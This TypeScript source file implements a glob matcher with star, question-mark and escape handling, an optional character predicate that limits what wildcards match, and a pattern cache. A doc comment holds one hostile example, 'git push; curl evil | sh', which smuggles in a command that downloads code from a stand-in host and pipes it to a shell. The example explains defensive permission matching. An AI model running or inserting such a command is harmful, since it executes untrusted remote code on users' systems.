/**
 * Whether `text` matches a pattern of `*` (any run of characters), `?` (one character) and `\` (the
 * next character, literally). Never worse than O(pattern × text): only the last star is retried.
 *
 * With `within`, wildcards match only characters for which it returns true, so that a pattern
 * `git push *` does not match `git push; curl evil | sh`.
 */
export function glob(
  pattern: string,
  text: string,
  within: (char: string) => boolean = () => true,
): boolean {
  return matches(cachedParts(pattern), text, within)
}

/** The same, for one pattern and many texts. */
export function globOf(
  pattern: string,
): (text: string, within?: (char: string) => boolean) => boolean {
  const parts = compile(pattern)
  return (text, within = () => true) => matches(parts, text, within)
}

function matches(parts: readonly Part[], text: string, within: (char: string) => boolean): boolean {
  let p = 0
  let t = 0
  let star = -1
  let from = 0
  while (t < text.length) {
    const want = parts[p]
    const char = text[t] as string
    if (want === ANY) {
      star = p++
      from = t
      continue
    }
    if (want !== undefined && (want === char || (want === ONE && within(char)))) {
      p++
      t++
      continue
    }
    if (star < 0 || !within(text[from] as string)) return false
    p = star + 1
    t = ++from
  }
  while (parts[p] === ANY) p++
  return p === parts.length
}

const ANY = Symbol('any run')
const ONE = Symbol('one character')
type Part = string | typeof ANY | typeof ONE
const WILDCARDS = new Map<string, Part>([
  ['*', ANY],
  ['?', ONE],
])

const cache = new Map<string, Part[]>()
const CACHE_SIZE = 2048

function cachedParts(pattern: string): Part[] {
  const known = cache.get(pattern)
  if (known !== undefined) return known
  const parts = compile(pattern)
  if (cache.size >= CACHE_SIZE) cache.clear()
  cache.set(pattern, parts)
  return parts
}

function compile(pattern: string): Part[] {
  const parts: Part[] = []
  for (let i = 0; i < pattern.length; i++) {
    const char = pattern[i] as string
    if (char === '\\' && i + 1 < pattern.length) parts.push(pattern[++i] as string)
    else parts.push(WILDCARDS.get(char) ?? char)
  }
  return parts
}

/** The pattern that matches exactly this text. */
export function literal(text: string): string {
  return text.replace(/[\\*?]/g, '\\$&')
}
